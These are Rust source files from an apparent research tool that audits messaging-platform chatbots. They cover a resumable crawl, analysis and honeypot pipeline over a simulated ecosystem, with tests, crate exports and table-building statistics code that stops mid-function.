    /// Run the full pipeline through a crash-safe store.
    ///
    /// Every completed unit is journaled before the next begins; a run
    /// killed at any frame boundary resumes from the journal and finishes
    /// with a canonical report byte-identical to an uninterrupted run. A
    /// fresh run against a warm artifact pack re-crawls but re-analyzes
    /// nothing.
    pub fn run_resumable(
        &self,
        eco: &Ecosystem,
        store_cfg: &StoreConfig,
        world_seed: u64,
    ) -> Result<ResumableOutcome, ResumeError> {
        let fingerprint = run_fingerprint(&self.config, world_seed);
        let store = AuditStore::open(store_cfg.backend.clone(), fingerprint, store_cfg.resume)
            .map_err(ResumeError::Store)?;
        if let Some(frames) = store_cfg.kill_after_frames {
            store.set_kill_after(frames);
        }
        self.run_with_store(eco, &store, fingerprint)
    }

    /// [`Self::run_resumable`] with the conditional-fetch warm path armed.
    ///
    /// Opens the tenant's validator cache next to the artifact pack, asks
    /// the listing site which bots changed since the cache's committed
    /// epoch, and routes the crawl through the validated variants: an
    /// unchanged page costs one bodyless 304 round-trip, a ledger-named
    /// page is always re-fetched in full. If the change feed is
    /// unreachable or the cache cannot open, the run silently degrades to
    /// the cold path — the report is byte-identical either way.
    pub fn run_incremental(
        &self,
        eco: &Ecosystem,
        store_cfg: &StoreConfig,
        world_seed: u64,
        epoch: u32,
    ) -> Result<ResumableOutcome, ResumeError> {
        let fingerprint = run_fingerprint(&self.config, world_seed);
        let store = AuditStore::open(store_cfg.backend.clone(), fingerprint, store_cfg.resume)
            .map_err(ResumeError::Store)?;
        if let Some(frames) = store_cfg.kill_after_frames {
            store.set_kill_after(frames);
        }
        let inc = ValidatorCache::open(store_cfg.backend.clone(), fingerprint)
            .ok()
            .map(Arc::new)
            .and_then(|cache| {
                let changed = fetch_changed_hrefs(
                    &eco.net,
                    &self.config.crawl.list_host,
                    cache.epoch(),
                    &self.obs,
                )?;
                Some(IncrementalContext {
                    cache,
                    changed,
                    epoch,
                })
            });
        if inc.is_none() {
            self.obs.event(
                Severity::Warn,
                "crawl.incremental",
                "change feed unavailable — crawling cold",
            );
        }
        self.run_with_store_inner(eco, &store, fingerprint, inc.as_ref())
    }

    /// [`Self::run_resumable`] against an already-open store handle. Tests
    /// use this to crash and resume on one in-memory backend.
    pub fn run_with_store(
        &self,
        eco: &Ecosystem,
        store: &AuditStore,
        fingerprint: u64,
    ) -> Result<ResumableOutcome, ResumeError> {
        self.run_with_store_inner(eco, store, fingerprint, None)
    }

    fn run_with_store_inner(
        &self,
        eco: &Ecosystem,
        store: &AuditStore,
        fingerprint: u64,
        inc: Option<&IncrementalContext>,
    ) -> Result<ResumableOutcome, ResumeError> {
        let net = &eco.net;
        let clock = net.clock();
        let started = clock.now();
        let root = self.obs.span("static");

        // --- Stage 1a: listing traversal (one journal unit).
        let listing: ListingIndex = match store.lookup_unit(K_LISTING, 0) {
            Some(bytes) => {
                self.obs
                    .event(Severity::Info, "store.journal", "listing replayed");
                root.child("listing").record("replayed", 1);
                serde_json::from_slice(&bytes).expect("listing frame decodes")
            }
            None => {
                // With the validator cache armed, the cache itself is the
                // crash-safe carrier for crawl state: a resumed run replays
                // validators and 304s its way back in less time than the
                // journal frame costs to serialize, so the crawl stages
                // journal nothing.
                match inc {
                    Some(ctx) => discover_listing_validated(
                        net,
                        &self.config.crawl,
                        &CacheStore(ctx.cache.clone()),
                        &self.obs,
                        &root,
                    ),
                    None => {
                        let listing =
                            discover_listing_traced(net, &self.config.crawl, &self.obs, &root);
                        let bytes = serde_json::to_vec(&listing).expect("listing serializes");
                        record(store, K_LISTING, 0, bytes)?;
                        listing
                    }
                }
            }
        };

        // --- Stage 1b: detail pages in fixed-size chunks. Chunks fan out to
        // a claim-counter pool; each finished chunk journals immediately, so
        // a crash preserves every *completed* chunk regardless of order.
        let chunks: Vec<&[String]> = listing.hrefs.chunks(CRAWL_UNIT_SIZE).collect();
        let units_span = root.child("units");
        let units = self.run_unit_pool(chunks.len(), |unit| {
            match store.lookup_unit(K_CRAWL_UNIT, unit as u64) {
                Some(bytes) => {
                    units_span
                        .child_keyed("unit", unit as u64)
                        .record("replayed", 1);
                    let decoded: DetailUnit =
                        serde_json::from_slice(&bytes).expect("crawl unit frame decodes");
                    Ok((decoded, Vec::new()))
                }
                None => {
                    let out = match inc {
                        Some(ctx) => crawl_detail_unit_validated(
                            net,
                            &self.config.crawl,
                            chunks[unit],
                            unit as u64,
                            &CacheStore(ctx.cache.clone()),
                            &ctx.changed,
                            &self.obs,
                            &units_span,
                        ),
                        None => {
                            let out = crawl_detail_unit_traced(
                                net,
                                &self.config.crawl,
                                chunks[unit],
                                unit as u64,
                                &self.obs,
                                &units_span,
                            );
                            let bytes = serde_json::to_vec(&out).expect("crawl unit serializes");
                            record(store, K_CRAWL_UNIT, unit as u64, bytes)?;
                            (out, Vec::new())
                        }
                    };
                    Ok(out)
                }
            }
        })?;
        drop(units_span);

        let mut crawl_stats = CrawlStats {
            pages: listing.pages,
            duration: netsim::clock::SimDuration::ZERO,
            ..CrawlStats::default()
        };
        let mut overhead = listing.overhead;
        let mut crawled: Vec<CrawledBot> = Vec::with_capacity(listing.hrefs.len());
        // Raw serialized bytes per crawled bot, aligned with `crawled`. The
        // validated crawl hands these back (cache bodies for 304'd bots,
        // fresh serializations for fetched ones) so the analysis stage can
        // hash artifact keys without re-serializing every bot; the plain and
        // replayed paths return no bytes and fall back to serializing.
        let mut raws: Vec<Option<Vec<u8>>> = Vec::with_capacity(listing.hrefs.len());
        for (
            DetailUnit {
                results,
                overhead: unit_overhead,
            },
            raw,
        ) in units
        {
            overhead.absorb(&unit_overhead);
            let mut raw = raw.into_iter().chain(std::iter::repeat_with(|| None));
            for result in results {
                let bytes = raw.next().expect("padded iterator never ends");
                match result {
                    Some(bot) => {
                        crawl_stats.bots += 1;
                        crawled.push(bot);
                        raws.push(bytes);
                    }
                    None => crawl_stats.failures += 1,
                }
            }
        }
        let SessionOverhead {
            captchas_solved,
            captcha_spend_dollars,
            email_verifications,
        } = overhead;
        crawl_stats.captchas_solved = captchas_solved;
        crawl_stats.captcha_spend_dollars = captcha_spend_dollars;
        crawl_stats.email_verifications = email_verifications;

        // The crawl is complete: every validator entry now reflects this
        // epoch's content, so advance the cache's committed epoch. A crash
        // before this line leaves the older epoch on disk — the next run's
        // changed set is then a superset of the truth, which costs extra
        // fetches but can never reuse stale bytes.
        if let Some(ctx) = inc {
            if let Err(e) = ctx.cache.commit_epoch(ctx.epoch) {
                self.obs.event(
                    Severity::Warn,
                    "store.validators",
                    format!("epoch commit failed: {e}"),
                );
            }
            let vstats = ctx.cache.stats();
            self.obs
                .counter("store.validators.entries")
                .add(vstats.entries);
            self.obs
                .counter("store.validators.replayed")
                .add(vstats.replayed);
            if vstats.reset {
                self.obs.counter("store.validators.reset").incr();
            }
        }

        // --- Stages 2/3: per-bot analysis through the artifact cache.
        let policy_before = self.config.ontology.kernel_stats();
        let code_before = codeanal::scanner_kernel_stats();
        let links = LinkCache::new();
        let memo = AnalysisMemo::new();

        let jobs: Vec<Mutex<Option<CrawledBot>>> =
            crawled.into_iter().map(|b| Mutex::new(Some(b))).collect();
        let gh_clients: Mutex<Vec<netsim::client::HttpClient>> = Mutex::new(Vec::new());
        let analysis_span = root.child("analysis");
        let analysis_span_ref = &analysis_span;
        let raws_ref = &raws;
        let bots = self.run_unit_pool(jobs.len(), |idx| {
            let bot_span = analysis_span_ref.child_keyed("bot", idx as u64);
            let bot = jobs[idx].lock().take().expect("job claimed once");
            let key = match store.lookup_unit(K_ANALYSIS, idx as u64) {
                Some(payload) => ContentHash::from_bytes(&payload)
                    .expect("analysis frame payload is a content hash"),
                None => match raws_ref[idx].as_deref() {
                    Some(bytes) => artifact_key_raw(fingerprint, bytes),
                    None => artifact_key(fingerprint, &bot),
                },
            };
            let artifact: AnalysisArtifact = match store.artifact_get(&key) {
                Some(blob) => {
                    bot_span.record("artifact_hit", 1);
                    serde_json::from_slice(&blob).expect("analysis artifact decodes")
                }
                None => {
                    // Workers keep their clients across claims (pop/push
                    // around the analysis) so politeness state persists the
                    // way the plain pipeline's per-worker clients do.
                    let mut gh_client = gh_clients
                        .lock()
                        .pop()
                        .unwrap_or_else(|| self.analysis_client(net));
                    let audited = self.audit_one(bot.clone(), &mut gh_client, &links, &memo);
                    gh_clients.lock().push(gh_client);
                    let artifact = AnalysisArtifact {
                        traceability: audited.traceability,
                        code: audited.code,
                    };
                    let blob = serde_json::to_vec(&artifact).expect("artifact serializes");
                    store.artifact_put(key, &blob).map_err(ResumeError::Store)?;
                    artifact
                }
            };
            if store.lookup_unit(K_ANALYSIS, idx as u64).is_none() {
                record(store, K_ANALYSIS, idx as u64, key.0.to_vec())?;
            }
            let audited = AuditedBot {
                crawled: bot,
                traceability: artifact.traceability,
                code: artifact.code,
            };
            crate::pipeline::trace_audited(&bot_span, &audited);
            Ok(audited)
        })?;
        drop(analysis_span);

        // Close the static root before the honeypot opens its own.
        self.publish_analysis_metrics(&links, &memo, policy_before, code_before);
        drop(root);

        // --- Stage 4: honeypot campaign (one journal unit).
        let honeypot: CampaignReport = match store.lookup_unit(K_HONEYPOT, 0) {
            Some(bytes) => {
                self.obs
                    .event(Severity::Info, "store.journal", "honeypot replayed");
                serde_json::from_slice(&bytes).expect("honeypot frame decodes")
            }
            None => {
                let report = match inc {
                    Some(_) => self.run_honeypot_reusing(eco, store, fingerprint),
                    None => self.run_honeypot(eco),
                };
                let bytes = serde_json::to_vec(&report).expect("campaign serializes");
                record(store, K_HONEYPOT, 0, bytes)?;
                report
            }
        };

        if store.lookup_unit(K_COMPLETE, 0).is_none() {
            record(store, K_COMPLETE, 0, Vec::new())?;
        }

        let store_stats = store.stats();
        self.obs
            .counter("store.journal.frames_written")
            .add(store_stats.frames_written);
        self.obs
            .counter("store.journal.replayed")
            .add(store_stats.frames_replayed);
        self.obs
            .counter("store.artifacts.hits")
            .add(store_stats.artifact_hits);
        self.obs
            .counter("store.artifacts.misses")
            .add(store_stats.artifact_misses);

        crawl_stats.duration = clock.now().duration_since(started);
        Ok(ResumableOutcome {
            report: AuditReport {
                platform: eco.kind,
                bots,
                crawl_stats,
                honeypot: Some(honeypot),
            },
            store_stats,
            referenced_keys: store.referenced_keys(),
        })
    }

    /// Drift-aware honeypot stage: guild transcripts live in the artifact
    /// pack under [`guild_snapshot_key`] addresses, so a re-audit re-drives
    /// only the guilds whose bot identity (name, invite, behaviour class)
    /// moved — every other guild's transcript is replayed from the pack.
    /// Snapshot lookups use [`AuditStore::artifact_peek`] and report on
    /// `honeypot.guilds_reused`, keeping the artifact hit/miss counters an
    /// exact census of per-bot analyses.
    fn run_honeypot_reusing(
        &self,
        eco: &Ecosystem,
        store: &AuditStore,
        fingerprint: u64,
    ) -> CampaignReport {
        let sample = self.honeypot_identities(eco);
        // The RNG-stream selector is the bot's position in bot-name order —
        // the same index the campaign assigns after sorting its jobs.
        let mut names: Vec<&str> = sample.iter().map(|(name, _, _)| name.as_str()).collect();
        names.sort_unstable();
        let keyed: Vec<(String, ContentHash)> = sample
            .iter()
            .map(|(name, invite, class)| {
                let index = names
                    .binary_search(&name.as_str())
                    .expect("sampled bot is in its own name list");
                (
                    name.clone(),
                    guild_snapshot_key(fingerprint, index, name, invite, class),
                )
            })
            .collect();
        let mut reuse: BTreeMap<String, GuildSnapshot> = BTreeMap::new();
        for (name, key) in &keyed {
            if let Some(snap) = store
                .artifact_peek(key)
                .and_then(|blob| serde_json::from_slice::<GuildSnapshot>(&blob).ok())
            {
                reuse.insert(name.clone(), snap);
            }
        }
        self.obs
            .counter("honeypot.guilds_reused")
            .add(reuse.len() as u64);

        let (report, snapshots) = self.run_honeypot_with_reuse(eco, &reuse);

        // Persist this epoch's transcripts for the next re-audit. Failures
        // are swallowed — snapshots are performance state.
        let key_of: BTreeMap<&String, &ContentHash> =
            keyed.iter().map(|(name, key)| (name, key)).collect();
        for snap in &snapshots {
            if let Some(key) = key_of.get(&snap.bot_name) {
                if let Ok(blob) = serde_json::to_vec(snap) {
                    let _ = store.artifact_put(**key, &blob);
                }
            }
        }
        report
    }

    /// Claim-counter pool over `count` indexed units. Results land in their
    /// unit's slot, so output order is scheduling-independent. The first
    /// error (interrupt or backend failure) stops all workers from claiming
    /// further units and is returned; completed units' journal frames are
    /// already durable.
    fn run_unit_pool<T, F>(&self, count: usize, work: F) -> Result<Vec<T>, ResumeError>
    where
        T: Send,
        F: Fn(usize) -> Result<T, ResumeError> + Sync,
        Self: Sync,
    {
        let workers = resolve_workers(self.config.workers).min(count.max(1));
        if workers <= 1 || count <= 1 {
            return (0..count).map(&work).collect();
        }
        let slots: Vec<Mutex<Option<T>>> = (0..count).map(|_| Mutex::new(None)).collect();
        let next = AtomicUsize::new(0);
        let dead = AtomicBool::new(false);
        let first_error: Mutex<Option<ResumeError>> = Mutex::new(None);
        crossbeam::thread::scope(|s| {
            for _ in 0..workers {
                let (slots, next, dead, first_error) = (&slots, &next, &dead, &first_error);
                let work = &work;
                s.spawn(move |_| loop {
                    if dead.load(Ordering::Relaxed) {
                        break;
                    }
                    let idx = next.fetch_add(1, Ordering::Relaxed);
                    if idx >= count {
                        break;
                    }
                    match work(idx) {
                        Ok(out) => *slots[idx].lock() = Some(out),
                        Err(e) => {
                            dead.store(true, Ordering::Relaxed);
                            let mut guard = first_error.lock();
                            if guard.is_none() {
                                *guard = Some(e);
                            }
                            break;
                        }
                    }
                });
            }
        })
        .expect("unit pool scope");
        if let Some(e) = first_error.into_inner() {
            return Err(e);
        }
        Ok(slots
            .into_iter()
            .map(|slot| slot.into_inner().expect("every unit slot filled"))
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth::{build_ecosystem, EcosystemConfig};

    fn world() -> Ecosystem {
        build_ecosystem(&EcosystemConfig::test_scale(90, 13))
    }

    fn pipeline() -> AuditPipeline {
        AuditPipeline::new(AuditConfig {
            honeypot_sample: 10,
            ..AuditConfig::default()
        })
    }

    #[test]
    fn uninterrupted_resumable_matches_plain_run() {
        let eco = world();
        let plain = pipeline().run_full(&eco).canonical_json();

        let eco = world();
        let outcome = pipeline()
            .run_resumable(&eco, &StoreConfig::in_memory(), 13)
            .unwrap();
        assert_eq!(outcome.report.canonical_json(), plain);
        assert!(outcome.store_stats.frames_written > 0);
        assert_eq!(outcome.store_stats.frames_replayed, 0);
        assert_eq!(outcome.store_stats.artifact_hits, 0);
        assert_eq!(outcome.store_stats.artifact_misses, 90);
    }

    #[test]
    fn kill_switch_surfaces_interrupted() {
        let eco = world();
        let cfg = StoreConfig::in_memory().killing_after(3);
        let err = pipeline().run_resumable(&eco, &cfg, 13).unwrap_err();
        match err {
            ResumeError::Interrupted { frames_written } => assert_eq!(frames_written, 3),
            other => panic!("expected interrupt, got {other}"),
        }
    }

    #[test]
    fn crash_then_resume_replays_and_completes() {
        let eco = world();
        let uninterrupted = pipeline()
            .run_resumable(&eco, &StoreConfig::in_memory(), 13)
            .unwrap();

        let eco = world();
        let cfg = StoreConfig::in_memory().killing_after(20);
        pipeline().run_resumable(&eco, &cfg, 13).unwrap_err();

        let eco = world();
        let resumed = pipeline()
            .run_resumable(
                &eco,
                &StoreConfig {
                    kill_after_frames: None,
                    ..cfg.resuming()
                },
                13,
            )
            .unwrap();
        assert_eq!(
            resumed.report.canonical_json(),
            uninterrupted.report.canonical_json(),
            "resumed run must be byte-identical"
        );
        assert!(resumed.store_stats.frames_replayed >= 20);
        assert!(
            resumed.store_stats.artifact_misses < 90,
            "resume must reuse analyses journaled before the crash"
        );
    }

    #[test]
    fn warm_pack_fresh_run_reanalyzes_nothing() {
        let eco = world();
        let cfg = StoreConfig::in_memory();
        let cold = pipeline().run_resumable(&eco, &cfg, 13).unwrap();
        assert_eq!(cold.store_stats.artifact_misses, 90);

        // Fresh journal, warm pack: full re-crawl, zero re-analysis.
        let eco = world();
        let warm_pipeline = pipeline();
        let warm = warm_pipeline.run_resumable(&eco, &cfg, 13).unwrap();
        assert_eq!(warm.store_stats.artifact_hits, 90);
        assert_eq!(warm.store_stats.artifact_misses, 0);
        // The policy kernel counter is per-ontology-instance (mirrored into
        // this pipeline's obs registry), so it cleanly proves no analyzer
        // ran. (The code kernel counter is process-wide and other tests race
        // it; the artifact counters above cover it.)
        assert_eq!(
            warm_pipeline.obs().counter_value("policy.scan_passes"),
            0,
            "no keyword scans on a warm pack"
        );
        assert_eq!(warm.report.canonical_json(), cold.report.canonical_json());
    }

    #[test]
    fn fingerprint_tracks_content_not_workers() {
        let base = AuditConfig::default();
        let seed_a = run_fingerprint(&base, 1);
        assert_eq!(seed_a, run_fingerprint(&base, 1), "stable");
        assert_ne!(seed_a, run_fingerprint(&base, 2), "world seed matters");

        let mut workers = base.clone();
        workers.workers = 8;
        workers.crawl.workers = 8;
        workers.honeypot.workers = 8;
        assert_eq!(
            seed_a,
            run_fingerprint(&workers, 1),
            "workers knobs excluded"
        );

        let mut sample = base.clone();
        sample.honeypot_sample = 99;
        assert_ne!(seed_a, run_fingerprint(&sample, 1), "sample size matters");
    }
}
