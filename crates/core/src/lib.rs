//! # chatbot-audit — the paper's contribution: an automated security &
//! privacy assessment pipeline for messaging-platform chatbots
//!
//! Figure 1 of the paper shows the pipeline this crate implements:
//!
//! ```text
//!   listings ──► Data Collection ──► Traceability Analysis ─┐
//!                     │                                      ├──► Risk Report
//!                     ├────────────► Code Analysis ──────────┤
//!                     └────────────► Dynamic Analysis ───────┘
//!                                     (honeypot)
//! ```
//!
//! * [`pipeline`] — stage orchestration over a mounted world (the `synth`
//!   ecosystem or any compatible set of services);
//! * [`stats`] — the aggregations behind every table and figure in §4.2;
//! * [`report`] — per-bot risk findings and paper-style table rendering;
//! * [`validate`] — something the paper could not do: score each analyzer
//!   against the planted ground truth.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod leastpriv;
pub mod pipeline;
pub mod report;
pub mod resume;
pub mod stats;
pub mod validate;

pub use leastpriv::{least_privilege_summary, privilege_gaps, LeastPrivilegeSummary, PrivilegeGap};
pub use pipeline::{
    AuditConfig, AuditPipeline, AuditReport, AuditedBot, CodeFinding, LinkResolution,
};
pub use report::{
    exposure_by_flag, render_figure3, render_markdown_dossier, render_table1, render_table2,
    render_table3, risk_report, CanonicalBot, CanonicalCampaign, CanonicalDetection,
    CanonicalReport, RiskFlag, RiskReport,
};
pub use resume::{
    run_fingerprint, ResumableOutcome, ResumeError, StoreConfig, CRAWL_UNIT_SIZE, K_ANALYSIS,
    K_COMPLETE, K_CRAWL_UNIT, K_HONEYPOT, K_LISTING,
};
pub use stats::{
    figure3_distribution, permission_rate_by_tag, table1_histogram, table2_traceability,
    table3_code_analysis, Figure3Row, Table1Row, Table2Summary, Table3Summary,
};
pub use validate::{validate_against_truth, AnalyzerScore, ValidationReport};
