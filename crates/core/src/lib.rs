//! # chatbot-audit — the paper's contribution: an automated security &
//! privacy assessment pipeline for messaging-platform chatbots
//!
//! Figure 1 of the paper shows the pipeline this crate implements:
//!
//! ```text
//!   listings ──► Data Collection ──► Traceability Analysis ─┐
//!                     │                                      ├──► Risk Report
//!                     ├────────────► Code Analysis ──────────┤
//!                     └────────────► Dynamic Analysis ───────┘
//!                                     (honeypot)
//! ```
//!
//! * [`audit`] — the [`Audit::builder`] facade: one typed entry point over
//!   the crawl/analysis/honeypot/store configuration, returning results
//!   behind the unified [`AuditError`];
//! * [`daemon`] — the always-on fleet layer: [`FleetDaemon`] runs many
//!   tenants' audits as a long-lived loop on the virtual clock, with
//!   deficit-round-robin fairness, typed deadline expiry, and
//!   cooperative preemption of batch audits at journal-frame boundaries;
//! * [`service`] — the legacy batch facade over the daemon:
//!   [`FleetService`] submits and drains, re-audits drifted worlds
//!   incrementally, and emits [`DeltaReport`]s;
//! * [`pipeline`] — stage orchestration over a mounted world (the `synth`
//!   ecosystem or any compatible set of services);
//! * [`stats`] — the aggregations behind every table and figure in §4.2;
//! * [`report`] — per-bot risk findings and paper-style table rendering;
//! * [`validate`] — something the paper could not do: score each analyzer
//!   against the planted ground truth.
//!
//! Every stage reports through the `obs` crate: pass an [`obs::Obs`] via
//! [`AuditBuilder::obs`] (or [`pipeline::AuditPipeline::with_obs`]) to
//! capture deterministic span traces and registry metrics.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod audit;
pub mod daemon;
pub mod delta;
pub mod error;
pub mod leastpriv;
pub mod pipeline;
pub mod report;
pub mod resume;
pub mod service;
pub mod stats;
pub mod validate;

pub use audit::{Audit, AuditBuilder};
pub use daemon::{
    AbandonedAudit, FleetDaemon, FleetDaemonConfig, JobHandle, ShutdownMode, ShutdownReport,
};
pub use delta::{DeltaReport, PermissionChange, TraceabilityTransition};
pub use error::{AuditError, ErrorKind};
pub use leastpriv::{least_privilege_summary, privilege_gaps, LeastPrivilegeSummary, PrivilegeGap};
pub use pipeline::{AuditPipeline, AuditReport, AuditedBot, CodeFinding, LinkResolution};
pub use report::{
    exposure_by_flag, render_figure3, render_markdown_dossier, render_table1, render_table2,
    render_table3, risk_report, CanonicalBot, CanonicalCampaign, CanonicalDetection,
    CanonicalReport, RiskFlag, RiskReport,
};
pub use resume::{
    run_fingerprint, ResumableOutcome, ResumeError, CRAWL_UNIT_SIZE, K_ANALYSIS, K_COMPLETE,
    K_CRAWL_UNIT, K_HONEYPOT, K_LISTING,
};
pub use service::{
    platform_breakdown, AuditJob, FleetConfig, FleetService, JobOutcome, PlatformBreakdown,
};
pub use stats::{
    figure3_distribution, permission_rate_by_tag, table1_histogram, table2_traceability,
    table3_code_analysis, Figure3Row, Table1Row, Table2Summary, Table3Summary,
};
pub use validate::{validate_against_truth, AnalyzerScore, ValidationReport};

/// Platform identity, re-exported so facade users name substrates without
/// depending on the `platform` crate directly.
pub use platform::PlatformKind;

/// The longitudinal oplog vocabulary, re-exported so fleet callers can
/// consume [`FleetDaemon::history`]/[`FleetDaemon::trends`] results
/// without depending on the `oplog` crate directly.
pub use oplog::{
    fleet_drift_curves, BotFlips, CompactionOutcome, CreepEntry, DriftPoint, EpochRecord,
    EpochTrend, PermissionCreep, PlatformDrift, TrendQuery,
};

// The pre-facade configuration structs. Superseded by [`Audit::builder`]
// but re-exported (hidden) so existing call sites keep compiling.
#[doc(hidden)]
pub use botlist::SiteConfig;
#[doc(hidden)]
pub use crawler::crawl::CrawlConfig;
#[doc(hidden)]
pub use honeypot::campaign::CampaignConfig;
#[doc(hidden)]
pub use netsim::client::ClientConfig;
#[doc(hidden)]
pub use pipeline::AuditConfig;
#[doc(hidden)]
pub use resume::StoreConfig;
#[doc(hidden)]
pub use synth::EcosystemConfig;
