//! The aggregations behind every table and figure of §4.2.

use crate::pipeline::{AuditedBot, LinkResolution};
use codeanal::scanner::CheckPattern;
use codeanal::Language;
use crawler::invite::InviteStatus;
use discord_sim::Permissions;
use policy::Traceability;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// One bar of Figure 3.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Figure3Row {
    /// Canonical permission name.
    pub permission: String,
    /// Bots requesting it.
    pub count: usize,
    /// Percentage of valid bots.
    pub percent: f64,
}

/// Figure 3: percentage distribution of the top `n` permissions requested
/// by bots with valid invite links, sorted by percentage descending.
pub fn figure3_distribution(bots: &[AuditedBot], top_n: usize) -> Vec<Figure3Row> {
    let valid: Vec<&Permissions> = bots
        .iter()
        .filter_map(|b| match &b.crawled.invite_status {
            InviteStatus::Valid { permissions, .. } => Some(permissions),
            _ => None,
        })
        .collect();
    let total = valid.len().max(1);
    let mut rows: Vec<Figure3Row> = Permissions::NAMES
        .iter()
        .map(|(bit, name)| {
            let count = valid.iter().filter(|p| p.0 & bit != 0).count();
            Figure3Row {
                permission: name.to_string(),
                count,
                percent: count as f64 / total as f64 * 100.0,
            }
        })
        .filter(|r| r.count > 0)
        .collect();
    rows.sort_by(|a, b| b.count.cmp(&a.count).then(a.permission.cmp(&b.permission)));
    rows.truncate(top_n);
    rows
}

/// One row of Table 1.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Table1Row {
    /// Bots per developer.
    pub bots_per_developer: u32,
    /// Developers with that many bots.
    pub developers: u32,
    /// Percentage of all attributed developers.
    pub percent: f64,
}

/// Table 1: bot distribution by number of developers (attributed handles
/// only; third-party-platform pseudo-developers are excluded, as in the
/// paper).
pub fn table1_histogram(bots: &[AuditedBot]) -> Vec<Table1Row> {
    let mut per_dev: BTreeMap<&str, u32> = BTreeMap::new();
    for bot in bots {
        for dev in &bot.crawled.scraped.developers {
            if dev.contains('/') {
                continue;
            }
            *per_dev.entry(dev.as_str()).or_default() += 1;
        }
    }
    let total_devs = per_dev.len().max(1);
    let mut histogram: BTreeMap<u32, u32> = BTreeMap::new();
    for (_, n) in per_dev {
        *histogram.entry(n).or_default() += 1;
    }
    histogram
        .into_iter()
        .map(|(bots_per_developer, developers)| Table1Row {
            bots_per_developer,
            developers,
            percent: developers as f64 / total_devs as f64 * 100.0,
        })
        .collect()
}

/// Table 2: traceability results.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Table2Summary {
    /// Unique active chatbots (valid invite links) — the 100% base.
    pub active: usize,
    /// Bots with a website link on their listing.
    pub website_link: usize,
    /// Bots whose website shows a privacy-policy link.
    pub policy_link: usize,
    /// Bots whose policy link leads to a valid (fetched, substantive) page.
    pub valid_policy: usize,
    /// Traceability classification over active bots.
    pub complete: usize,
    /// Partial classifications.
    pub partial: usize,
    /// Broken classifications.
    pub broken: usize,
}

impl Table2Summary {
    /// Percentage helper over the active base.
    pub fn pct(&self, count: usize) -> f64 {
        count as f64 / self.active.max(1) as f64 * 100.0
    }
}

/// Compute Table 2 (and the classification counts quoted in the text).
pub fn table2_traceability(bots: &[AuditedBot]) -> Table2Summary {
    let active: Vec<&AuditedBot> = bots
        .iter()
        .filter(|b| b.crawled.invite_status.is_valid())
        .collect();
    let website_link = active
        .iter()
        .filter(|b| b.crawled.scraped.website.is_some())
        .count();
    let policy_link = active
        .iter()
        .filter(|b| b.crawled.policy_link_present)
        .count();
    let valid_policy = active
        .iter()
        .filter(|b| {
            b.crawled
                .policy
                .as_ref()
                .map(|p| p.is_substantive())
                .unwrap_or(false)
        })
        .count();
    let mut complete = 0;
    let mut partial = 0;
    let mut broken = 0;
    for b in &active {
        match b.traceability.classification {
            Traceability::Complete => complete += 1,
            Traceability::Partial => partial += 1,
            Traceability::Broken => broken += 1,
        }
    }
    Table2Summary {
        active: active.len(),
        website_link,
        policy_link,
        valid_policy,
        complete,
        partial,
        broken,
    }
}

/// Table 3 / §4.2 code-analysis numbers.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Table3Summary {
    /// Bots with a GitHub link on their listing.
    pub with_github_link: usize,
    /// Links leading to valid repositories.
    pub valid_repos: usize,
    /// Repos containing recognizable source code.
    pub with_source: usize,
    /// JavaScript/TypeScript repos analyzed.
    pub js_repos: usize,
    /// JS repos containing a Table 3 check pattern.
    pub js_checking: usize,
    /// Python repos analyzed.
    pub py_repos: usize,
    /// Python repos containing a check pattern.
    pub py_checking: usize,
    /// Valid repos in other languages (out of analysis scope).
    pub other_language: usize,
    /// Repos containing each Table 3 pattern, in Table 3 order
    /// (`.hasPermission(`, `.has(`, `member.roles.cache`, `userPermissions`).
    pub pattern_repos: [usize; 4],
}

impl Table3Summary {
    /// % of JS repos performing checks.
    pub fn js_checking_pct(&self) -> f64 {
        self.js_checking as f64 / self.js_repos.max(1) as f64 * 100.0
    }

    /// % of Python repos performing checks.
    pub fn py_checking_pct(&self) -> f64 {
        self.py_checking as f64 / self.py_repos.max(1) as f64 * 100.0
    }
}

/// Compute the code-analysis summary.
///
/// Restricted to bots with valid invite links — the paper's base ("Out of
/// these \[15,525\] chatbots, 23.86% had GitHub links").
pub fn table3_code_analysis(bots: &[AuditedBot]) -> Table3Summary {
    let mut s = Table3Summary {
        with_github_link: 0,
        valid_repos: 0,
        with_source: 0,
        js_repos: 0,
        js_checking: 0,
        py_repos: 0,
        py_checking: 0,
        other_language: 0,
        pattern_repos: [0; 4],
    };
    for bot in bots {
        if !bot.crawled.invite_status.is_valid() {
            continue;
        }
        let Some(code) = &bot.code else { continue };
        s.with_github_link += 1;
        if code.resolution != LinkResolution::ValidRepo {
            continue;
        }
        s.valid_repos += 1;
        if code.has_source {
            s.with_source += 1;
        }
        if let Some(scan) = &code.scan {
            for (pattern, _) in &scan.hits {
                let idx = CheckPattern::ALL
                    .iter()
                    .position(|p| p == pattern)
                    .expect("known pattern");
                s.pattern_repos[idx] += 1;
            }
        }
        match &code.language {
            Some(Language::JavaScript) | Some(Language::TypeScript) => {
                s.js_repos += 1;
                if code.performs_checks == Some(true) {
                    s.js_checking += 1;
                }
            }
            Some(Language::Python) => {
                s.py_repos += 1;
                if code.performs_checks == Some(true) {
                    s.py_checking += 1;
                }
            }
            Some(Language::Other(_)) => s.other_language += 1,
            None => {}
        }
    }
    s
}

/// Permission-request rates per listing tag (gaming, music, moderation, …)
/// — the per-purpose view behind §4.2's "chatbot purpose (such as gaming,
/// fun, social, music, meme)" sampling note. Returns, per tag, the number
/// of valid bots and the fraction requesting `perm`.
pub fn permission_rate_by_tag(bots: &[AuditedBot], perm: Permissions) -> Vec<(String, usize, f64)> {
    let mut per_tag: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    for bot in bots {
        let InviteStatus::Valid { permissions, .. } = &bot.crawled.invite_status else {
            continue;
        };
        for tag in &bot.crawled.scraped.tags {
            let entry = per_tag.entry(tag.as_str()).or_default();
            entry.0 += 1;
            if permissions.contains(perm) {
                entry.1 += 1;
            }
        }
    }
    per_tag
        .into_iter()
